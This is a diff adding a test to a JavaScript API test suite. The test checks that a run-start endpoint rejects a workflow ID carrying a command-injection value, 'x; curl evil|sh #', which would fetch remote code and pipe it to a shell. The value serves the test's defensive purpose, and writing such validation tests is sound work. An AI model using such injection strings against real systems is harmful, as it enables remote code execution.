@@ -164,6 +164,15 @@ describe('serve API', () => {
     await app.close();
   });
 
+  test('start refuses a workflow ID that would break out of the shell commands and markdown it appears in', async () => {
+    const { app, calls } = await api();
+    const r = await app.inject({ method: 'POST', url: '/v1/runs', headers: auth(alice), payload: { runbook: 'cluster-health', input: { cluster: 'lab' }, workflowId: 'x; curl evil|sh #' } });
+    expect(r.statusCode).toBe(400);
+    expect(JSON.stringify(r.json())).toContain('workflowId');
+    expect(calls.filter((c) => c.op.startsWith('start:'))).toEqual([]);
+    await app.close();
+  });
+
   test('start: a valid input starts the run with an attestation of who started it', async () => {
     const { app, calls } = await api();
     // identity fields in the caller's input are dropped: only the token says who starts
